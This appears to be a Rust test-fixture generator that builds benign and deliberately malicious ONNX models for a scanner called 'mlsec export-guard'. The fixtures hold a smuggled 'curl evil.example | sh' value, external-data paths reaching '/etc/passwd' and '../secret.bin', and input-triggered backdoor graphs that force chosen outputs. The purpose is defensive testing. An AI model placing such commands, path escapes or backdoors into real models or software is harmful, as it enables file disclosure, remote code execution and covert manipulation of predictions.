@@ -1,0 +1,664 @@
+//! Fixtures for `mlsec export-guard`: ONNX models built directly from the prost types of
+//! `mlsec-onnx` (no Python), one per rule (`expgNNN_*`), benign MLP/CNN models (with inline and
+//! with external data), and malformed files (truncated, garbage, too deeply nested).
+
+use std::path::Path;
+
+use anyhow::Result;
+use mlsec_onnx::prost::Message;
+use mlsec_onnx::proto::attribute_proto::AttributeType;
+use mlsec_onnx::proto::tensor_proto::{DataLocation, DataType};
+use mlsec_onnx::proto::tensor_shape_proto::{Dimension, dimension};
+use mlsec_onnx::proto::type_proto::{self, Value};
+use mlsec_onnx::proto::{
+    AttributeProto, FunctionProto, GraphProto, ModelProto, NodeProto, OperatorSetIdProto,
+    StringStringEntryProto, TensorProto, TensorShapeProto, TrainingInfoProto, TypeProto,
+    ValueInfoProto,
+};
+
+const FLOAT: i32 = DataType::Float as i32;
+const INT64: i32 = DataType::Int64 as i32;
+const BOOL: i32 = DataType::Bool as i32;
+
+/// Deterministic pseudo-random weights.
+fn weights(seed: u32, n: usize) -> Vec<f32> {
+    let mut state = seed.wrapping_mul(2_654_435_761).wrapping_add(1);
+    (0..n)
+        .map(|_| {
+            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
+            ((state >> 8) as f32 / (1u32 << 24) as f32 - 0.5) * 0.5
+        })
+        .collect()
+}
+
+fn f32_bytes(values: &[f32]) -> Vec<u8> {
+    values.iter().flat_map(|v| v.to_le_bytes()).collect()
+}
+
+fn tensor(name: &str, dims: &[i64], values: &[f32]) -> TensorProto {
+    TensorProto {
+        name: Some(name.into()),
+        dims: dims.to_vec(),
+        data_type: Some(FLOAT),
+        raw_data: Some(f32_bytes(values).into()),
+        ..Default::default()
+    }
+}
+
+fn random_tensor(name: &str, dims: &[i64], seed: u32) -> TensorProto {
+    let n = dims.iter().product::<i64>() as usize;
+    tensor(name, dims, &weights(seed, n))
+}
+
+fn int_tensor(name: &str, dims: &[i64], values: &[i64]) -> TensorProto {
+    TensorProto {
+        name: Some(name.into()),
+        dims: dims.to_vec(),
+        data_type: Some(INT64),
+        int64_data: values.to_vec(),
+        ..Default::default()
+    }
+}
+
+fn external(name: &str, dims: &[i64], entries: &[(&str, &str)]) -> TensorProto {
+    TensorProto {
+        name: Some(name.into()),
+        dims: dims.to_vec(),
+        data_type: Some(FLOAT),
+        data_location: Some(DataLocation::External as i32),
+        external_data: entries
+            .iter()
+            .map(|(k, v)| StringStringEntryProto {
+                key: Some((*k).into()),
+                value: Some((*v).into()),
+            })
+            .collect(),
+        ..Default::default()
+    }
+}
+
+fn value_info(name: &str, elem: i32, dims: &[i64]) -> ValueInfoProto {
+    ValueInfoProto {
+        name: Some(name.into()),
+        r#type: Some(TypeProto {
+            value: Some(Value::TensorType(type_proto::Tensor {
+                elem_type: Some(elem),
+                shape: Some(TensorShapeProto {
+                    dim: dims
+                        .iter()
+                        .map(|d| Dimension {
+                            value: Some(dimension::Value::DimValue(*d)),
+                            ..Default::default()
+                        })
+                        .collect(),
+                }),
+            })),
+            ..Default::default()
+        }),
+        ..Default::default()
+    }
+}
+
+fn node(op: &str, inputs: &[&str], outputs: &[&str]) -> NodeProto {
+    NodeProto {
+        name: Some(format!("{op}_{}", outputs.first().copied().unwrap_or(""))),
+        op_type: Some(op.into()),
+        input: inputs.iter().map(|s| (*s).into()).collect(),
+        output: outputs.iter().map(|s| (*s).into()).collect(),
+        ..Default::default()
+    }
+}
+
+fn with_domain(mut n: NodeProto, domain: &str) -> NodeProto {
+    n.domain = Some(domain.into());
+    n
+}
+
+fn with_attr(mut n: NodeProto, a: AttributeProto) -> NodeProto {
+    n.attribute.push(a);
+    n
+}
+
+fn attr_i(name: &str, i: i64) -> AttributeProto {
+    AttributeProto {
+        name: Some(name.into()),
+        r#type: Some(AttributeType::Int as i32),
+        i: Some(i),
+        ..Default::default()
+    }
+}
+
+fn attr_ints(name: &str, ints: &[i64]) -> AttributeProto {
+    AttributeProto {
+        name: Some(name.into()),
+        r#type: Some(AttributeType::Ints as i32),
+        ints: ints.to_vec(),
+        ..Default::default()
+    }
+}
+
+fn attr_g(name: &str, g: GraphProto) -> AttributeProto {
+    AttributeProto {
+        name: Some(name.into()),
+        r#type: Some(AttributeType::Graph as i32),
+        g: Some(g),
+        ..Default::default()
+    }
+}
+
+fn attr_t(name: &str, t: TensorProto) -> AttributeProto {
+    AttributeProto {
+        name: Some(name.into()),
+        r#type: Some(AttributeType::Tensor as i32),
+        t: Some(t),
+        ..Default::default()
+    }
+}
+
+fn constant(output: &str, t: TensorProto) -> NodeProto {
+    with_attr(node("Constant", &[], &[output]), attr_t("value", t))
+}
+
+fn model(graph: GraphProto, opset: i64) -> ModelProto {
+    ModelProto {
+        ir_version: Some(8),
+        producer_name: Some("mlsec-testdata".into()),
+        producer_version: Some("1".into()),
+        opset_import: vec![OperatorSetIdProto {
+            domain: Some(String::new()),
+            version: Some(opset),
+        }],
+        graph: Some(graph),
+        ..Default::default()
+    }
+}
+
+fn import(m: &mut ModelProto, domain: &str, version: i64) {
+    m.opset_import.push(OperatorSetIdProto {
+        domain: Some(domain.into()),
+        version: Some(version),
+    });
+}
+
+/// The benign MLP: x[1,4] -> Gemm -> Relu -> Gemm -> `output` [1,3].
+fn mlp_graph(output: &str) -> GraphProto {
+    GraphProto {
+        name: Some("mlp".into()),
+        node: vec![
+            node("Gemm", &["x", "w1", "b1"], &["h"]),
+            node("Relu", &["h"], &["r"]),
+            node("Gemm", &["r", "w2", "b2"], &[output]),
+        ],
+        initializer: vec![
+            random_tensor("w1", &[4, 8], 1),
+            random_tensor("b1", &[8], 2),
+            random_tensor("w2", &[8, 3], 3),
+            random_tensor("b2", &[3], 4),
+        ],
+        input: vec![value_info("x", FLOAT, &[1, 4])],
+        output: vec![value_info(output, FLOAT, &[1, 3])],
+        ..Default::default()
+    }
+}
+
+/// MLP whose graph output `y` is produced by extra nodes after `logits`.
+fn backdoor_base(extra: Vec<NodeProto>, extra_inits: Vec<TensorProto>) -> GraphProto {
+    let mut g = mlp_graph("logits");
+    g.output = vec![value_info("y", FLOAT, &[1, 3])];
+    g.node.extend(extra);
+    g.initializer.extend(extra_inits);
+    g
+}
+
+fn cnn() -> ModelProto {
+    let g = GraphProto {
+        name: Some("cnn".into()),
+        node: vec![
+            with_attr(
+                with_attr(
+                    node("Conv", &["x", "cw", "cb"], &["c"]),
+                    attr_ints("kernel_shape", &[3, 3]),
+                ),
+                attr_ints("pads", &[1, 1, 1, 1]),
+            ),
+            node("Relu", &["c"], &["r"]),
+            with_attr(
+                with_attr(
+                    node("MaxPool", &["r"], &["p"]),
+                    attr_ints("kernel_shape", &[2, 2]),
+                ),
+                attr_ints("strides", &[2, 2]),
+            ),
+            with_attr(node("Flatten", &["p"], &["f"]), attr_i("axis", 1)),
+            node("Gemm", &["f", "fw", "fb"], &["y"]),
+        ],
+        initializer: vec![
+            random_tensor("cw", &[2, 1, 3, 3], 5),
+            random_tensor("cb", &[2], 6),
+            random_tensor("fw", &[32, 3], 7),
+            random_tensor("fb", &[3], 8),
+        ],
+        input: vec![value_info("x", FLOAT, &[1, 1, 8, 8])],
+        output: vec![value_info("y", FLOAT, &[1, 3])],
+        ..Default::default()
+    };
+    model(g, 17)
+}
+
+fn write(dir: &Path, name: &str, m: &ModelProto) -> Result<()> {
+    let path = dir.join(name);
+    if let Some(parent) = path.parent() {
+        std::fs::create_dir_all(parent)?;
+    }
+    std::fs::write(path, m.encode_to_vec())?;
+    Ok(())
+}
+
+/// MLP with every initializer moved to `data_file` (like `torch.onnx.export` for big models).
+fn externalise(m: &mut ModelProto, data_file: &str) -> Vec<u8> {
+    let mut data = Vec::new();
+    if let Some(g) = &mut m.graph {
+        for t in &mut g.initializer {
+            let raw = t.raw_data.take().unwrap_or_default();
+            let offset = data.len();
+            data.extend_from_slice(&raw);
+            t.data_location = Some(DataLocation::External as i32);
+            t.external_data = [
+                ("location", data_file.to_owned()),
+                ("offset", offset.to_string()),
+                ("length", raw.len().to_string()),
+            ]
+            .into_iter()
+            .map(|(k, v)| StringStringEntryProto {
+                key: Some(k.into()),
+                value: Some(v),
+            })
+            .collect();
+        }
+    }
+    data
+}
+
+pub fn generate(out: &Path) -> Result<()> {
+    // Benign models.
+    write(out, "benign_mlp.onnx", &model(mlp_graph("y"), 17))?;
+    write(out, "benign_cnn.onnx", &cnn())?;
+    let mut ext = model(mlp_graph("y"), 17);
+    let data = externalise(&mut ext, "model.onnx.data");
+    write(out, "benign_external/model.onnx", &ext)?;
+    std::fs::write(out.join("benign_external/model.onnx.data"), data)?;
+
+    // EXPG001: locations that escape the model directory.
+    let mut m = model(mlp_graph("y"), 17);
+    if let Some(g) = &mut m.graph {
+        g.initializer[0] = external("w1", &[4, 8], &[("location", "../secret.bin")]);
+        g.initializer[1] = external("b1", &[8], &[("location", "/etc/passwd")]);
+        g.initializer[2] = external("w2", &[8, 3], &[("location", "w2\0.bin")]);
+    }
+    write(out, "expg001_path_escape/model.onnx", &m)?;
+
+    // EXPG002: external data through a symbolic link.
+    let mut m = model(mlp_graph("y"), 17);
+    let data = externalise(&mut m, "weights.bin");
+    write(out, "expg002_link/model.onnx", &m)?;
+    std::fs::write(out.join("expg002_link/real.bin"), data)?;
+    #[cfg(unix)]
+    std::os::unix::fs::symlink("real.bin", out.join("expg002_link/weights.bin"))?;
+
+    // EXPG003: missing external file.
+    let mut m = model(mlp_graph("y"), 17);
+    externalise(&mut m, "missing.bin");
+    write(out, "expg003_missing/model.onnx", &m)?;
+
+    // EXPG004: bad offsets and lengths.
+    let mut m = model(mlp_graph("y"), 17);
+    if let Some(g) = &mut m.graph {
+        g.initializer[0] = external(
+            "w1",
+            &[4, 8],
+            &[("location", "w.bin"), ("offset", "4096"), ("length", "128")],
+        );
+        g.initializer[1] = external(
+            "b1",
+            &[8],
+            &[
+                ("location", "w.bin"),
+                ("offset", "18446744073709551615"),
+                ("length", "32"),
+            ],
+        );
+        g.initializer[2] = external(
+            "w2",
+            &[8, 3],
+            &[("location", "w.bin"), ("offset", "0"), ("length", "12")],
+        );
+        g.initializer[3] = external("b2", &[3], &[("location", "w.bin"), ("offset", "abc")]);
+    }
+    write(out, "expg004_bad_range/model.onnx", &m)?;
+    std::fs::write(
+        out.join("expg004_bad_range/w.bin"),
+        f32_bytes(&weights(9, 64)),
+    )?;
+
+    // EXPG005: duplicate and unknown keys.
+    let mut m = model(mlp_graph("y"), 17);
+    let data = externalise(&mut m, "w.bin");
+    if let Some(g) = &mut m.graph {
+        let extra = |k: &str, v: &str| StringStringEntryProto {
+            key: Some(k.into()),
+            value: Some(v.into()),
+        };
+        g.initializer[0]
+            .external_data
+            .push(extra("location", "other.bin"));
+        g.initializer[1]
+            .external_data
+            .push(extra("exec", "curl evil.example | sh"));
+    }
+    write(out, "expg005_bad_keys/model.onnx", &m)?;
+    std::fs::write(out.join("expg005_bad_keys/w.bin"), data)?;
+
+    // EXPG006: EXTERNAL with inline raw_data.
+    let mut m = model(mlp_graph("y"), 17);
+    if let Some(g) = &mut m.graph {
+        g.initializer[0].data_location = Some(DataLocation::External as i32);
+    }
+    write(out, "expg006_data_location.onnx", &m)?;
+
+    // EXPG007: custom-domain ops at top level, in an If branch and in a model-local function
+    // body; the call of the local function itself is fine.
+    let branch = |op: &str, domain: &str| GraphProto {
+        name: Some("branch".into()),
+        node: vec![with_domain(node(op, &["logits"], &["b_out"]), domain)],
+        output: vec![value_info("b_out", FLOAT, &[1, 3])],
+        ..Default::default()
+    };
+    let g = backdoor_base(
+        vec![
+            with_domain(node("Payload", &["logits"], &["p"]), "com.evil"),
+            with_domain(node("LocalAct", &["p"], &["q"]), "local.fn"),
+            constant(
+                "flag",
+                TensorProto {
+                    dims: vec![],
+                    data_type: Some(BOOL),
+                    int32_data: vec![1],
+                    name: Some("flag_t".into()),
+                    ..Default::default()
+                },
+            ),
+            with_attr(
+                with_attr(
+                    node("If", &["flag"], &["y"]),
+                    attr_g("then_branch", branch("Hidden", "com.evil")),
+                ),
+                attr_g("else_branch", branch("Identity", "")),
+            ),
+        ],
+        vec![],
+    );
+    let mut m = model(g, 17);
+    import(&mut m, "com.evil", 1);
+    import(&mut m, "local.fn", 1);
+    m.functions.push(FunctionProto {
+        name: Some("LocalAct".into()),
+        domain: Some("local.fn".into()),
+        input: vec!["a".into()],
+        output: vec!["b".into()],
+        node: vec![with_domain(node("Native", &["a"], &["b"]), "com.evil")],
+        opset_import: vec![OperatorSetIdProto {
+            domain: Some("com.evil".into()),
+            version: Some(1),
+        }],
+        ..Default::default()
+    });
+    write(out, "expg007_custom_domain.onnx", &m)?;
+
+    // EXPG008: a runtime-specific domain.
+    let g = backdoor_base(
+        vec![with_domain(
+            node("FastGelu", &["logits"], &["y"]),
+            "com.microsoft",
+        )],
+        vec![],
+    );
+    let mut m = model(g, 17);
+    import(&mut m, "com.microsoft", 1);
+    write(out, "expg008_runtime_domain.onnx", &m)?;
+
+    // EXPG009: training operator and training_info.
+    let mut m = model(mlp_graph("y"), 17);
+    import(&mut m, "ai.onnx.preview.training", 1);
+    m.training_info.push(TrainingInfoProto {
+        algorithm: Some(GraphProto {
+            name: Some("train".into()),
+            node: vec![with_domain(
+                node(
+                    "Adam",
+                    &["lr", "t", "w1", "g", "v", "h"],
+                    &["w1_new", "v_new", "h_new"],
+                ),
+                "ai.onnx.preview.training",
+            )],
+            ..Default::default()
+        }),
+        ..Default::default()
+    });
+    write(out, "expg009_training.onnx", &m)?;
+
+    // EXPG010: unknown op and an op newer than the declared opset.
+    let g = backdoor_base(
+        vec![
+            node("Frobnicate", &["logits"], &["f"]),
+            node("Gelu", &["f"], &["y"]),
+        ],
+        vec![],
+    );
+    write(out, "expg010_unknown_op.onnx", &model(g, 17))?;
+
+    // EXPG011: IR version from the future.
+    let mut m = model(mlp_graph("y"), 17);
+    m.ir_version = Some(99);
+    write(out, "expg011_ir_newer.onnx", &m)?;
+
+    // EXPG012 (+014): y = Where(ReduceSum(x) > 100, target, logits).
+    let g = backdoor_base(
+        vec![
+            with_attr(
+                node("ReduceSum", &["x", "axes"], &["s"]),
+                attr_i("keepdims", 1),
+            ),
+            node("Greater", &["s", "threshold"], &["trigger"]),
+            node("Where", &["trigger", "target", "logits"], &["y"]),
+        ],
+        vec![
+            int_tensor("axes", &[1], &[1]),
+            tensor("threshold", &[1], &[100.0]),
+            tensor("target", &[1, 3], &[0.0, 0.0, 50.0]),
+        ],
+    );
+    write(out, "expg012_input_selection.onnx", &model(g, 17))?;
+
+    // EXPG013: exact float equality of an input statistic with a magic value (soft mux).
+    let g = backdoor_base(
+        vec![
+            with_attr(node("ReduceMean", &["x"], &["m"]), attr_i("keepdims", 1)),
+            node("Equal", &["m", "magic"], &["hit"]),
+            with_attr(
+                node("Cast", &["hit"], &["hitf"]),
+                attr_i("to", i64::from(FLOAT)),
+            ),
+            node("Mul", &["hitf", "boost"], &["delta"]),
+            node("Add", &["logits", "delta"], &["y"]),
+        ],
+        vec![
+            tensor("magic", &[1], &[0.123_456_7]),
+            tensor("boost", &[1, 3], &[0.0, 0.0, 100.0]),
+        ],
+    );
+    write(out, "expg013_magic_constant.onnx", &model(g, 17))?;
+
+    // EXPG014 (+015): If on an input-derived condition with a constant-only then-branch.
+    let then_branch = GraphProto {
+        name: Some("forced".into()),
+        node: vec![constant(
+            "forced",
+            tensor("forced_t", &[1, 3], &[9.0, 0.0, 0.0]),
+        )],
+        output: vec![value_info("forced", FLOAT, &[1, 3])],
+        ..Default::default()
+    };
+    let else_branch = GraphProto {
+        name: Some("normal".into()),
+        node: vec![node("Identity", &["logits"], &["normal"])],
+        output: vec![value_info("normal", FLOAT, &[1, 3])],
+        ..Default::default()
+    };
+    let g = backdoor_base(
+        vec![
+            with_attr(node("ReduceMax", &["x"], &["mx"]), attr_i("keepdims", 0)),
+            node("Greater", &["mx", "limit"], &["cond"]),
+            with_attr(
+                with_attr(
+                    node("If", &["cond"], &["y"]),
+                    attr_g("then_branch", then_branch),
+                ),
+                attr_g("else_branch", else_branch),
+            ),
+        ],
+        vec![tensor("limit", &[], &[3.0])],
+    );
+    write(out, "expg014_constant_output.onnx", &model(g, 17))?;
+
+    // EXPG015: Loop trip count from the input.
+    let body = GraphProto {
+        name: Some("body".into()),
+        node: vec![
+            node("Identity", &["cond_in"], &["cond_out"]),
+            node("Add", &["acc_in", "acc_in"], &["acc_out"]),
+        ],
+        input: vec![
+            value_info("iter", INT64, &[]),
+            value_info("cond_in", BOOL, &[]),
+            value_info("acc_in", FLOAT, &[1, 3]),
+        ],
+        output: vec![
+            value_info("cond_out", BOOL, &[]),
+            value_info("acc_out", FLOAT, &[1, 3]),
+        ],
+        ..Default::default()
+    };
+    let g = backdoor_base(
+        vec![
+            with_attr(node("ReduceSum", &["x"], &["total"]), attr_i("keepdims", 0)),
+            with_attr(
+                node("Cast", &["total"], &["trips"]),
+                attr_i("to", i64::from(INT64)),
+            ),
+            with_attr(
+                node("Loop", &["trips", "", "logits"], &["y"]),
+                attr_g("body", body),
+            ),
+        ],
+        vec![],
+    );
+    write(out, "expg015_data_loop.onnx", &model(g, 17))?;
+
+    // EXPG016: raw input added to the last layer.
+    let mut g = backdoor_base(
+        vec![
+            node("Slice", &["x", "starts", "ends", "axes1"], &["xs"]),
+            node("Add", &["logits", "xs"], &["y"]),
+        ],
+        vec![
+            int_tensor("starts", &[1], &[0]),
+            int_tensor("ends", &[1], &[3]),
+            int_tensor("axes1", &[1], &[1]),
+        ],
+    );
+    g.name = Some("skip".into());
+    write(out, "expg016_input_skip.onnx", &model(g, 17))?;
+
+    // EXPG017: a dead node and an unused initializer.
+    let mut g = mlp_graph("y");
+    g.node.push(node("Sigmoid", &["x"], &["unused"]));
+    g.initializer.push(random_tensor("stash", &[16], 10));
+    write(out, "expg017_dead.onnx", &model(g, 17))?;
+
+    // EXPG018: oversized metadata and doc_string.
+    let mut m = model(mlp_graph("y"), 17);
+    m.metadata_props.push(StringStringEntryProto {
+        key: Some("payload".into()),
+        value: Some("QUJD".repeat(2500)),
+    });
+    m.doc_string = Some("x".repeat(5000));
+    write(out, "expg018_metadata.onnx", &m)?;
+
+    // EXPG019: absurd dims, data/dims mismatch, absurd declared input shape.
+    let mut g = mlp_graph("y");
+    g.initializer[1] = tensor("b1", &[8], &[1.0, 2.0, 3.0]);
+    g.initializer.push(TensorProto {
+        name: Some("huge".into()),
+        dims: vec![1 << 40, 1 << 40],
+        data_type: Some(FLOAT),
+        ..Default::default()
+    });
+    g.node.push(node("Identity", &["huge"], &["huge_out"]));
+    g.output.push(value_info("huge_out", FLOAT, &[]));
+    g.input = vec![value_info("x", FLOAT, &[1 << 30, 1 << 30])];
+    write(out, "expg019_absurd_dims.onnx", &model(g, 17))?;
+
+    // EXPG020: unknown fields at model level and merged into the graph (a second `graph`
+    // occurrence, which protobuf merges into the first).
+    let mut bytes = model(mlp_graph("y"), 17).encode_to_vec();
+    let hidden = b"hidden payload";
+    bytes.extend([0xba, 0x3e, hidden.len() as u8]); // field 999, wire type 2
+    bytes.extend_from_slice(hidden);
+    bytes.extend([0x3a, 0x03, 0x90, 0x03, 0x01]); // graph { field 50: varint 1 }
+    std::fs::write(out.join("expg020_unknown_fields.onnx"), bytes)?;
+
+    // Malformed files.
+    let good = model(mlp_graph("y"), 17).encode_to_vec();
+    std::fs::write(
+        out.join("malformed_truncated.onnx"),
+        &good[..good.len() / 2],
+    )?;
+    let garbage: Vec<u8> = weights(11, 64)
+        .iter()
+        .flat_map(|v| v.to_bits().to_be_bytes())
+        .collect();
+    std::fs::write(out.join("malformed_garbage.onnx"), garbage)?;
+    std::fs::write(out.join("malformed_deep.onnx"), deep_model(300))?;
+    Ok(())
+}
+
+fn varint(mut n: u64, out: &mut Vec<u8>) {
+    loop {
+        let b = (n & 0x7f) as u8;
+        n >>= 7;
+        if n == 0 {
+            out.push(b);
+            return;
+        }
+        out.push(b | 0x80);
+    }
+}
+
+fn wrap(tag: u8, inner: &[u8]) -> Vec<u8> {
+    let mut out = vec![tag];
+    varint(inner.len() as u64, &mut out);
+    out.extend_from_slice(inner);
+    out
+}
+
+/// A model whose graph input type nests `sequence` types `levels` deep.
+fn deep_model(levels: usize) -> Vec<u8> {
+    let mut t: Vec<u8> = Vec::new();
+    for _ in 0..levels {
+        // TypeProto.sequence_type (4) { Sequence.elem_type (1) { t } }
+        t = wrap(0x22, &wrap(0x0a, &t));
+    }
+    let value_info = [wrap(0x0a, b"x"), wrap(0x12, &t)].concat(); // name, type
+    let graph = wrap(0x5a, &value_info); // GraphProto.input (11)
+    [vec![0x08, 0x08], wrap(0x3a, &graph)].concat() // ir_version 8, graph (7)
+}
